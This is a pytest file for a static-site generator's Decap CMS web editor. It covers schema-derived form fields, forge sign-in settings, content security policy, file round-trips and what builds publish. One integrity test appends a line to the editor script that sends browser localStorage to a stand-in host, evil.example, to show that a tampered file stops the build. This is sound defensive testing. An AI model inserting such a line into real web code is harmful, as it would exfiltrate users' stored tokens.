"""The web editor (/admin/, Decap CMS): configuration generated from the schema, files written
as the guide shows them, sign-in settings, and what a build publishes.

The browser tests (Decap driven in Chromium against decap-server) are in
test_browser_editeur.py.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from pydantic import Field, ValidationError

from conftest import ROOT, build_lines, copy_project, ti_inprocess
from tisite.content import schema
from tisite.content.errors import ContentError
from tisite.content.loader import load_site
from tisite.editor import cms

EDITOR = ROOT / cms.EDITOR_DIR


@pytest.fixture
def installed_editor() -> None:
    """The editor's files (`make editeur`, run by `make test`): missing, the test fails."""
    if not cms.installed(ROOT):
        pytest.fail("éditeur web non installé dans .cache/editeur : lancez `make editeur`")


def needs_editor(test: Callable[..., None]) -> Callable[..., None]:
    """The test needs the installed editor and Node.js (marker « editeur »: left out of
    `make test-rapide`, which runs in a fresh clone)."""
    return pytest.mark.editeur(pytest.mark.usefixtures("installed_editor")(test))


def _walk_schema(name: str) -> list[tuple[str, dict[str, Any], bool]]:
    """Every (path, node, required in the form) of a JSON Schema, objects and lists of objects
    entered. In the form, the fields of an optional group (« porteur ») are optional: an empty
    group must not block the save (the build still requires them once the group is there)."""
    data = schema.json_schemas()[name]
    defs = data.get("$defs", {})
    out: list[tuple[str, dict[str, Any], bool]] = []

    def walk(model: dict[str, Any], prefix: str, optional: bool) -> None:
        required = set() if optional else set(model.get("required", []))
        for key, node in model.get("properties", {}).items():
            path = f"{prefix}{key}"
            out.append((path, node, key in required))
            branches, _ = cms._branches(node, defs)
            for b in branches:
                item = False
                if b.get("type") == "array":
                    item_branches, _ = cms._branches(b.get("items", {}), defs)
                    b = next((i for i in item_branches if "properties" in i), {})
                    item = True
                if b.get("type") == "object" and "properties" in b:
                    walk(b, f"{path}.", False if item else optional or key not in required)

    walk(data, "", False)
    return out


def _walk_fields(fields: list[dict[str, Any]], prefix: str = "") -> dict[str, dict[str, Any]]:
    out: dict[str, dict[str, Any]] = {}
    for f in fields:
        path = f"{prefix}{f['name']}"
        out[path] = f
        if "fields" in f:
            out.update(_walk_fields(f["fields"], f"{path}."))
    return out


@pytest.mark.parametrize("name", [k.schema for k in cms.KINDS.values()])
def test_editor_fields_are_the_schema(name: str) -> None:
    """Same fields, same order, same required flags, labels, choices and patterns: the editor
    can't diverge from the schema (a field added, removed or renamed there shows here)."""
    fields = _walk_fields(cms.schema_fields(name))
    nodes = _walk_schema(name)
    assert [p for p, _, _ in nodes] == list(fields)
    defs = schema.json_schemas()[name].get("$defs", {})
    for path, node, required in nodes:
        field = fields[path]
        assert field["required"] is required, path
        key = path.rsplit(".", 1)[-1]
        assert field["label"] == node.get("title", schema.label(key)) == schema.label(key), path
        branches, _ = cms._branches(node, defs)
        enums = [b["enum"] for b in branches if "enum" in b]
        arrays = [b for b in branches if b.get("type") == "array"]
        if arrays:
            items, _ = cms._branches(arrays[0].get("items", {}), defs)
            enums = enums or [b["enum"] for b in items if "enum" in b]
        if enums:
            values = [o["value"] if isinstance(o, dict) else o for o in field["options"]]
            assert values == enums[0], path
        patterns = [b["pattern"] for b in branches if b.get("type") == "string" and "pattern" in b]
        if patterns and field["widget"] in ("string", "text"):
            assert field["pattern"][0] == patterns[0], path


def test_optional_groups_and_list_items_in_the_form() -> None:
    """An action without « porteur » can be saved (its « nom » is required only in the group);
    a new action gets no empty milestone (no default inside a list's items)."""
    fields = _walk_fields(cms.schema_fields("action"))
    assert fields["porteur"]["required"] is False
    assert fields["porteur.nom"]["required"] is False
    assert fields["avancement.date"]["required"] is True  # within an item that exists
    assert "default" not in fields["calendrier.jalons.atteint"]
    assert fields["brouillon"]["default"] is False  # top-level defaults stay


def test_every_key_has_a_french_label() -> None:
    keys = {p.rsplit(".", 1)[-1] for k in schema.SCHEMAS for p, _, _ in _walk_schema(k)}
    assert sorted(keys - set(schema.LABELS)) == []
    fields = _walk_fields(cms.schema_fields("lettre"))
    assert fields["resume"]["label"] == "Résumé"
    assert fields["appels_a_projets.date_limite"]["label"] == "Date limite"
    assert fields["resume"]["hint"] == "Résumé affiché dans l'archive et les flux."
    assert fields["resume"]["widget"] == "text"  # a few sentences: a text area
    assert fields["evenements.date"]["pattern"][0] == schema.WHEN_PATTERN


def test_a_field_added_to_the_schema_appears_in_the_editor(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """No hand edit: a new key of the schema is a new field of the form, labelled and
    explained; a list of choices becomes a menu."""
    from typing import Literal

    monkeypatch.setitem(schema.LABELS, "redaction", "Rédaction")

    class Lettre(schema.Lettre):
        redaction: schema.Text | None = Field(None, description="Qui a rédigé la lettre.")
        ton: Literal["sobre", "enjoué"] = "sobre"

    assert "redaction" not in _walk_fields(cms.schema_fields("lettre"))
    schema._json_schema.cache_clear()
    monkeypatch.setattr(schema, "Lettre", Lettre)
    try:
        fields = _walk_fields(cms.schema_fields("lettre"))
    finally:
        schema._json_schema.cache_clear()
    assert fields["redaction"] == {
        "name": "redaction",
        "label": "Rédaction",
        "required": False,
        "hint": "Qui a rédigé la lettre.",
        "widget": "string",
    }
    assert fields["ton"]["widget"] == "select"
    assert fields["ton"]["options"] == ["sobre", "enjoué"]
    assert fields["ton"]["default"] == "sobre"


def test_collections_per_territory_with_its_own_vocabularies(project: Path) -> None:
    site = load_site(project)
    config = cms.editor_config(site, project, "https://exemple.org/", local=True)["decap"]
    names = [c["name"] for c in config["collections"]]
    assert names == [
        f"{kind}-{slug}"
        for slug in ("grand-chatellerault", "hainaut-douaisis-cambresis")
        for kind in ("lettres", "actions", "territoire")
    ]
    by_name = {c["name"]: c for c in config["collections"]}
    letters = by_name["lettres-hainaut-douaisis-cambresis"]
    assert letters["folder"] == "territoires/hainaut-douaisis-cambresis/lettres"
    assert letters["slug"] == "{{fields.numero}}"
    assert (letters["media_folder"], letters["public_folder"]) == (
        "/territoires/hainaut-douaisis-cambresis/lettres/images",
        "images",
    )
    assert letters["summary"] == "{{titre}} ({{date | date('DD/MM/YYYY')}})"
    fields = {f["name"]: f for f in letters["fields"]}
    numbers = [int(p.stem) for p in (project / letters["folder"]).glob("*.md") if p.stem.isdigit()]
    assert fields["numero"]["default"] == max(numbers) + 1  # the next letter's number
    assert fields["brouillon"]["default"] is True  # a new letter starts as a draft
    assert fields["brouillon"]["hint"] == "Activé : la lettre n'est pas publiée."  # a switch
    assert not [
        f["label"]
        for c in config["collections"]
        for f in c.get("fields", [])
        if "true" in f.get("hint", "")
    ]
    assert fields["date"]["default"] == "{{now}}"
    assert fields["image"]["widget"] == "image"
    assert fields["body"]["default"].startswith("## Actualité nationale\n")
    actions = {f["name"]: f for f in by_name["actions-hainaut-douaisis-cambresis"]["fields"]}
    territory = next(t for t in site.territories if t.slug == "hainaut-douaisis-cambresis")
    assert [o["value"] for o in actions["objectif"]["options"]] == [
        str(o.id) for o in territory.priorites.objectifs
    ]
    assert [o["value"] for o in actions["epci"]["options"]] == [e.siren for e in territory.epcis]
    assert actions["epci"]["multiple"] is True
    on_disk = sorted(p.stem for p in (project / letters["folder"]).parent.glob("actions/*.md"))
    assert [o["value"] for o in actions["actions_liees"]["options"]] == on_disk
    assert {"label": "Foncier industriel", "value": "foncier"} in actions["priorites"]["options"]
    statut = next(f for f in actions["avancement"]["fields"] if f["name"] == "statut")
    assert "Terminé" in statut["options"]
    files = {f["name"]: f for f in by_name["territoire-hainaut-douaisis-cambresis"]["files"]}
    assert files["agenda"]["file"] == "territoires/hainaut-douaisis-cambresis/agenda.yml"
    # an agenda.yml the territory doesn't have is not offered (Decap can't open it)
    other = by_name["territoire-grand-chatellerault"]["files"]
    assert [f["name"] for f in other] == ["territoire", "priorites", "gouvernance"]


EDITION = {
    "gitlab": {
        "forge": "gitlab",
        "depot": "territoires/mon-territoire",
        "application_id": "0a1b2c3d",
    },
    "github": {
        "forge": "github",
        "depot": "territoire/site",
        "url_authentification": "https://auth.exemple.org",
    },
}


def _site_with(project: Path, edition: dict[str, Any] | None) -> Any:
    path = project / "site.yml"
    text = path.read_text(encoding="utf-8")
    if edition is not None:
        lines = ["edition:"] + [f"  {k}: {v}" for k, v in edition.items()]
        path.write_text(text + "\n".join(lines) + "\n", encoding="utf-8")
    return load_site(project)


def test_gitlab_sign_in_with_pkce_and_merge_requests(project: Path) -> None:
    site = _site_with(project, EDITION["gitlab"])
    config = cms.editor_config(site, project, "https://exemple.org/", local=False)["decap"]
    assert config["backend"] == {
        "name": "gitlab",
        "repo": "territoires/mon-territoire",
        "branch": "main",
        "auth_type": "pkce",
        "app_id": "0a1b2c3d",
        "base_url": "https://gitlab.com",
        "api_root": "https://gitlab.com/api/v4",
    }
    assert config["publish_mode"] == "editorial_workflow"
    assert config["locale"] == "fr"
    policy = cms.content_security_policy(cms.backend(site, local=False).origins)
    assert "connect-src 'self' blob: https://gitlab.com;" in policy
    assert "127.0.0.1" not in policy  # the local server is the preview's only
    # the preview writes into the files through the local server, without merge requests
    preview = cms.editor_config(site, project, None, local=True)["decap"]
    assert preview["backend"]["name"] == "proxy"
    assert "publish_mode" not in preview


def test_github_sign_in_through_an_oauth_client(project: Path) -> None:
    site = _site_with(project, {**EDITION["github"], "workflow_editorial": "non"})
    config = cms.editor_config(site, project, None, local=False)["decap"]
    assert config["backend"]["name"] == "github"
    assert config["backend"]["base_url"] == "https://auth.exemple.org"
    assert config["backend"]["api_root"] == "https://api.github.com"
    assert "publish_mode" not in config  # « workflow_editorial: non »
    policy = cms.content_security_policy(cms.backend(site, local=False).origins)
    # GitHub's status page (githubstatus.com, which Decap asks) is not allowed: no
    # third-party request beyond the forge's API
    assert re.search(r"connect-src 'self' blob: https://api\.github\.com;", policy)


@pytest.mark.parametrize(
    ("edition", "expected"),
    [
        ({"forge": "gitlab", "depot": "a/b"}, "indiquez « application_id: »"),
        ({"forge": "github", "depot": "a/b"}, "indiquez « url_authentification: »"),
        (
            {**EDITION["gitlab"], "url_forge": "http://gitlab.exemple.org"},
            "doit commencer par https://",
        ),
        ({**EDITION["gitlab"], "depot": "pas un dépôt"}, "depot"),
        ({"forge": "forgejo", "depot": "a/b"}, "forge"),
    ],
)
def test_site_yml_says_what_the_editor_needs(
    project: Path, edition: dict[str, str], expected: str
) -> None:
    with pytest.raises(Exception) as info:
        _site_with(project, edition)
    assert expected in str(info.value)
    result = ti_inprocess("check", cwd=project)
    assert result.returncode == 1
    assert "site.yml" in result.stderr + result.stdout
    assert expected in result.stderr + result.stdout
    assert "Traceback" not in result.stderr


def test_edition_block_is_valid_in_the_schema() -> None:
    with pytest.raises(ValidationError):
        schema.Edition(forge="gitlab", depot="a/b")
    ok = schema.Edition(forge="gitlab", depot="a/b", application_id="x")
    assert ok.workflow_editorial is True and ok.branche == "main"


# --- files written by the editor --------------------------------------------------------


def _node() -> str:
    node = shutil.which("node")
    if node is None:
        pytest.fail("node est introuvable : lancez `make editeur` (il installe npm et Node.js)")
    return node


ROUND_TRIP = """
import { readFileSync, writeFileSync } from "node:fs";
import { format } from "./ti-formats.js";
const jobs = JSON.parse(readFileSync(process.argv[2], "utf8"));
for (const job of jobs) {
  const f = format(job.spec);
  const data = f.fromFile(readFileSync(job.path, "utf8"));
  if (job.dump) writeFileSync(job.dump, JSON.stringify(data));
  for (const [key, value] of Object.entries(job.change || {})) data[key] = value;
  writeFileSync(job.path, f.toFile(data, job.keys));
}
"""


def _round_trip(tmp: Path, jobs: list[dict[str, Any]], formats_js: str | None = None) -> None:
    """Each job's file read and written back by ti-formats.js (or ``formats_js``) in Node."""
    work = tmp / "formats"
    work.mkdir(parents=True)
    own = (cms.TEMPLATES / "ti-formats.js").read_text(encoding="utf-8")
    (work / "ti-formats.js").write_text(formats_js or own, encoding="utf-8")
    (work / "yaml").symlink_to(EDITOR / "yaml")
    (work / "package.json").write_text('{"type": "module"}', encoding="utf-8")
    (work / "run.js").write_text(ROUND_TRIP, encoding="utf-8")
    (work / "jobs.json").write_text(json.dumps(jobs), encoding="utf-8")
    done = subprocess.run(
        [_node(), "run.js", "jobs.json"], cwd=work, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr


def _jobs(project: Path, change: dict[str, Any] | None = None) -> list[dict[str, Any]]:
    site = load_site(project)
    config = cms.editor_config(site, project, None, local=True)
    formats = config["formats"]
    jobs = []
    for collection in config["decap"]["collections"]:
        keys = [f["name"] for f in collection.get("fields", [])]
        if "folder" in collection:
            for path in sorted((project / collection["folder"]).glob("*.md")):
                spec = formats[collection["format"]]
                jobs.append(
                    {
                        "path": str(path),
                        "spec": spec,
                        "keys": keys,
                        "change": change,
                        "modeline": spec["modeline"],
                    }
                )
        for file in collection.get("files", []):
            keys = [f["name"] for f in file["fields"]]
            kind = cms.KINDS[file["name"]]
            jobs.append(
                {
                    "path": str(project / file["file"]),
                    "spec": formats[collection["format"]],  # told by the names of the fields
                    "keys": keys,
                    "modeline": kind.modeline,
                }
            )
    return jobs


@pytest.mark.lent
@needs_editor
def test_every_file_saved_by_the_editor_passes_ti_check(project: Path, tmp_path: Path) -> None:
    """Each letter, action and single file of the example read and written back by the
    editor's formats (in Node, with the editor's YAML library): the modeline stays first, the
    keys keep the schema's order, « - Nom » shorthands stay short, and `ti check` accepts the
    whole project with the same content as before."""
    before = load_site(project)
    jobs = _jobs(project)
    assert len(jobs) >= 20
    _round_trip(tmp_path, jobs)
    for job in jobs:
        text = Path(job["path"]).read_text(encoding="utf-8")
        first = text.split("\n", 2)[1 if job["spec"]["frontmatter"] else 0]
        assert first == f"# {job['modeline']}", job["path"]
        keys = re.findall(r"^([a-z_]+):", text, flags=re.M)
        order = [k for k in job["keys"] if k in keys]
        assert keys[: len(order)] == order, job["path"]
    action = (
        project / "territoires/hainaut-douaisis-cambresis/actions/ateliers-intercommunalites.md"
    )
    assert "partenaires:\n  - Intercommunalités du territoire\n" in action.read_text("utf-8")
    after = load_site(project)
    assert after.territories == before.territories  # same content, read by the build
    result = ti_inprocess("check", cwd=project)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Contenu valide" in result.stdout


@pytest.mark.lent
@needs_editor
def test_cleared_fields_are_left_out_not_written_empty(project: Path, tmp_path: Path) -> None:
    """A field emptied in a form comes back as "" from Decap; the schema refuses an empty text,
    so the format leaves the key out. Control: written as "", `ti check` fails."""
    path = project / "territoires/hainaut-douaisis-cambresis/lettres/15.md"
    job = next(j for j in _jobs(project) if j["path"] == str(path))
    _round_trip(tmp_path, [{**job, "change": {"image_alt": "", "numero": 15}}])
    text = path.read_text(encoding="utf-8")
    assert "image_alt" not in text and "numero" not in text  # numero names the file only
    assert ti_inprocess("check", cwd=project).returncode == 0
    path.write_text(text.replace("resume:", 'image_alt: ""\nresume:', 1), encoding="utf-8")
    control = ti_inprocess("check", cwd=project)
    assert control.returncode == 1
    assert "image_alt" in control.stdout + control.stderr


# --- what a build publishes --------------------------------------------------------------


def _with_editor(project: Path) -> None:
    (project / ".cache").mkdir(exist_ok=True)
    (project / cms.EDITOR_DIR).symlink_to(EDITOR)


@pytest.mark.lent
@needs_editor
def test_published_site_has_the_editor_out_of_search_sitemap_and_registry(
    tmp_path: Path,
) -> None:
    project = copy_project(tmp_path / "projet")
    _with_editor(project)
    _site_with(project, EDITION["gitlab"])
    result = ti_inprocess("build", cwd=project)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Éditeur web : /admin/ (gitlab, territoires/mon-territoire, demandes de fusion)" in (
        result.stdout + result.stderr
    )
    site = project / "site"
    page = (site / "admin/index.html").read_text(encoding="utf-8")
    assert '<meta name="robots" content="noindex, nofollow">' in page
    assert '<html lang="fr">' in page
    assert "https://gitlab.com" in page  # the policy allows the forge's API...
    assert not re.search(r"<script(?![^>]*\bsrc=)", page)  # ... and no inline script
    config = json.loads((site / "admin/config.json").read_text(encoding="utf-8"))
    assert config["decap"]["backend"]["name"] == "gitlab"
    assert (site / "admin" / cms.DECAP_FILE).stat().st_size > 1_000_000
    assert "/admin/" not in (site / "sitemap.xml").read_text(encoding="utf-8")
    assert "admin" not in (project / "urls-publiees.txt").read_text(encoding="utf-8")
    indexed = " ".join(
        p.read_text(encoding="utf-8", errors="ignore") for p in (site / "pagefind").rglob("*.json")
    )
    assert "admin/" not in indexed
    for html in site.rglob("*.html"):  # no page links to the editor
        if "admin" not in html.parts:
            assert 'href="admin/' not in html.read_text(encoding="utf-8", errors="ignore")


def test_published_site_without_edition_has_no_editor(built_site: Path) -> None:
    assert "edition:" not in (built_site.parent / "site.yml").read_text(encoding="utf-8")
    assert not (built_site / "admin").exists()
    assert "Éditeur web : non activé" in build_lines(built_site)
    assert "ajoutez à site.yml le bloc « edition »" in build_lines(built_site)


@pytest.mark.lent
def test_edition_without_the_installed_editor_fails_in_french(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "projet")
    _site_with(project, EDITION["gitlab"])
    result = ti_inprocess("check", cwd=project)
    assert result.returncode == 1
    assert "lancez `make editeur`" in result.stdout + result.stderr
    assert "Contenu valide" not in result.stdout
    assert "Traceback" not in result.stderr


def test_fields_required_together_come_from_the_schema() -> None:
    """The letter's rule « an image needs its alt text » is in the JSON Schema
    (dependentRequired, read by code editors too) and in the editor's check before saving."""
    assert schema.json_schemas()["lettre"]["dependentRequired"] == {"image": ["image_alt"]}
    spec = cms.formats()["ti-lettre"]
    assert spec["together"] == {"image": ["image_alt"]}
    assert spec["labels"] == {"image": "Image", "image_alt": "Texte alternatif de l'image"}
    assert cms.formats()["ti-action"]["together"] == {}


ACTION = "territoires/hainaut-douaisis-cambresis/actions/industrie-4-0-robotique.md"


def _action_job(project: Path) -> dict[str, Any]:
    return next(j for j in _jobs(project) if j["path"] == str(project / ACTION))


@pytest.mark.lent
@needs_editor
def test_texts_that_look_like_yaml_or_front_matter_survive(project: Path, tmp_path: Path) -> None:
    """A Markdown rule (« --- ») inside a text, a title ending in « --- », a byte order mark,
    and texts other YAML readers take for numbers or merge keys: saved twice by the editor's
    format, the build reads exactly what was typed. Control: the format's first front matter
    pattern (a closing « --- » anywhere on a line) cuts the file, and fields are lost."""
    path = project / ACTION
    tricky = {
        "titre": "Former les soudeurs ---",
        "diagnostic": "Première partie.\n\n---\n\nDeuxième partie, après un filet.",
        "budget_source": "1_000",
        "objectifs": ["0b101", "=", "<<", "ligne\u2028suite", "1e3", "oui", "2024"],
    }
    before = load_site(project)
    _round_trip(tmp_path / "a", [{**_action_job(project), "change": tricky}])
    path.write_text("\ufeff" + path.read_text(encoding="utf-8"), encoding="utf-8")
    _round_trip(tmp_path / "b", [_action_job(project)])
    assert not path.read_text(encoding="utf-8").startswith("\ufeff")
    after = load_site(project)
    action = next(
        a for t in after.territories for a in t.actions if a.id == "industrie-4-0-robotique"
    )
    # as typed, but the line separator of a one-line field, read as a space (as its page
    # shows it: no file made from it holds a line break)
    read = {**tricky, "objectifs": [x.replace("\u2028", " ") for x in tricky["objectifs"]]}
    for key, value in read.items():
        assert getattr(action.data, key) == value, key
    old = next(
        a for t in before.territories for a in t.actions if a.id == "industrie-4-0-robotique"
    )
    assert action.data.avancement == old.data.avancement  # nothing moved to the body
    assert ti_inprocess("check", cwd=project).returncode == 0
    # control: with the closing « --- » allowed anywhere on a line, the second save cuts the
    # front matter in the middle of « diagnostic », and the build doesn't see it
    loose = (cms.TEMPLATES / "ti-formats.js").read_text(encoding="utf-8")
    anchored = "(?:([\\s\\S]*?)\\r?\\n)?---"
    assert anchored in loose
    loose = loose.replace(anchored, "([\\s\\S]*?)\\r?\\n?---")
    job = _action_job(project)
    for step in ("c", "d"):
        _round_trip(tmp_path / step, [job], formats_js=loose)
    try:
        cut = next(
            a
            for t in load_site(project).territories
            for a in t.actions
            if a.id == "industrie-4-0-robotique"
        )
        assert cut.data.avancement != old.data.avancement
    except ContentError as exc:  # the fields after the cut are missing
        assert "industrie-4-0-robotique.md" in exc.report()


@pytest.mark.lent
@needs_editor
def test_loose_values_are_shown_as_the_menus_know_them(project: Path, tmp_path: Path) -> None:
    """The build accepts « Attirer », « transition écologique », « non » and a SIREN written
    as a number; the editor's menus know only the canonical values, so the format reads them
    canonical (a menu showing nothing would drop them at the next save)."""
    path = project / ACTION
    text = path.read_text(encoding="utf-8")
    head, body = text.split("\n---\n", 1)
    head = re.sub(r"^axe: .*$", "axe: Attirer", head, flags=re.M)
    head = re.sub(
        r"^priorites: .*$", "priorites: [Innovation, transition écologique]", head, flags=re.M
    )
    head = re.sub(r"^(brouillon|epci|nature_soutien): .*\n", "", head, flags=re.M)
    head += "\nbrouillon: non\nepci: [245901160]\nnature_soutien: [Animation, ETUDE]"
    path.write_text(head + "\n---\n" + body, encoding="utf-8")
    assert (
        ti_inprocess(
            "check",
            cwd=project,
        ).returncode
        == 0
    )  # the build reads them
    dump = tmp_path / "data.json"
    _round_trip(tmp_path / "rt", [{**_action_job(project), "dump": str(dump)}])
    data = json.loads(dump.read_text(encoding="utf-8"))
    assert data["axe"] == "attirer"
    assert data["priorites"] == ["innovation", "transition-ecologique"]
    assert data["brouillon"] is False
    assert data["epci"] == ["245901160"]
    assert data["nature_soutien"] == ["animation", "étude"]
    assert ti_inprocess("check", cwd=project).returncode == 0


def test_github_sign_in_client_with_a_path(project: Path) -> None:
    """Decap takes the sign-in window's answer only from base_url's origin."""
    site = _site_with(
        project, {**EDITION["github"], "url_authentification": "https://auth.exemple.org/decap"}
    )
    backend = cms.editor_config(site, project, None, local=False)["decap"]["backend"]
    assert backend["base_url"] == "https://auth.exemple.org"
    assert backend["auth_endpoint"] == "decap/auth"


def test_a_shared_pages_address_is_flagged(project: Path) -> None:
    """On github.io/<dépôt>/ (or gitlab.io/<projet>/), every site of the account shares the
    origin, and so the editor's sign-in key: `ti check` says so."""
    assert cms.shared_origin("https://territoire.example.org/") is None
    assert cms.shared_origin("https://mon-territoire.gitlab.io/") is None  # unique domain
    assert "github.io" in (cms.shared_origin("https://org.github.io/territoire/") or "")
    _site_with(project, EDITION["gitlab"])
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    config.write_text(
        re.sub(r"^site_url: .*$", "site_url: https://org.gitlab.io/territoire/", text, flags=re.M),
        encoding="utf-8",
    )
    result = ti_inprocess("check", "--rapide", cwd=project)
    assert "avertissement : le site est publié à https://org.gitlab.io/territoire/" in result.stdout


@pytest.mark.lent
@needs_editor
def test_a_changed_editor_file_is_not_published(tmp_path: Path) -> None:
    """The editor's files are checked against their committed SHA-256 at every build: a
    cache poisoned after `make editeur` stops the build. Control: the same build with the
    files as installed passes (test_published_site_has_the_editor…)."""
    project = copy_project(tmp_path / "projet")
    copy = project / cms.EDITOR_DIR
    shutil.copytree(EDITOR, copy)
    _site_with(project, EDITION["gitlab"])
    script = copy / cms.DECAP_FILE
    script.write_bytes(script.read_bytes() + b"\nfetch('https://evil.example/'+localStorage)")
    result = ti_inprocess("build", cwd=project)
    assert result.returncode == 1
    assert "différent(s) de la version vérifiée : relancez `make editeur`" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (project / "site/admin").exists()


DECAP_SERVER = ROOT / ".cache/serveur-editeur/node_modules/decap-server/dist/index.js"


def _local_editor_output(command: str, repo: Path) -> str:
    """What the command of `make editeur-local` prints while it starts and answers, run on a
    free port for the git folder ``repo``."""
    import os
    import socket
    import time
    import urllib.request

    from browser import free_port

    port = free_port()
    command = re.sub(r"PORT=\d+", f"PORT={port}", command)
    command = re.sub(r"GIT_REPO_DIRECTORY=\S+", f"GIT_REPO_DIRECTORY={repo}", command)
    process = subprocess.Popen(
        command, shell=True, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        text=True, env={**os.environ}, start_new_session=True,
    )  # fmt: skip

    def answers() -> bool:
        with socket.socket() as s:
            if s.connect_ex(("127.0.0.1", port)) != 0:
                return False
        request = urllib.request.Request(
            f"http://127.0.0.1:{port}/api/v1",
            data=b'{"action": "info"}',
            headers={"Content-Type": "application/json"},
        )
        try:
            with urllib.request.urlopen(request, timeout=5) as response:
                return b"local_fs" in response.read()
        except OSError:
            return False

    deadline = time.monotonic() + 30
    try:
        while not answers():  # polls the state: listening and answering
            assert time.monotonic() < deadline, "decap-server ne répond pas"
            time.sleep(0.1)
    finally:
        os.killpg(process.pid, 15)
        output, _ = process.communicate(timeout=10)
    return output


@needs_editor
def test_make_editeur_local_speaks_french(tmp_path: Path) -> None:
    if not DECAP_SERVER.is_file():
        pytest.fail("decap-server manque : lancez `make quality-deps`")
    dry = subprocess.run(
        ["make", "-n", "editeur-local", "ADDR=127.0.0.1:8000"],
        cwd=ROOT, capture_output=True, text=True, check=True,
    )  # fmt: skip
    lines = dry.stdout.splitlines()
    said = [line.removeprefix("echo ").strip('"') for line in lines if line.startswith("echo ")]
    assert said[0].startswith("Serveur local de l'éditeur (decap-server) sur 127.0.0.1:8081")
    assert "http://127.0.0.1:8000/admin/" in said[1] and "Ctrl+C pour arrêter" in said[1]
    command = next(line for line in lines if "node " in line)
    repo = tmp_path / "depot"
    repo.mkdir()
    assert _local_editor_output(command, repo) == ""  # nothing in English
    # control: decap-server's own messages, without LOG_LEVEL=warn, are English
    english = _local_editor_output(command.replace("LOG_LEVEL=warn ", ""), repo)
    assert "Decap CMS Proxy Server listening" in english
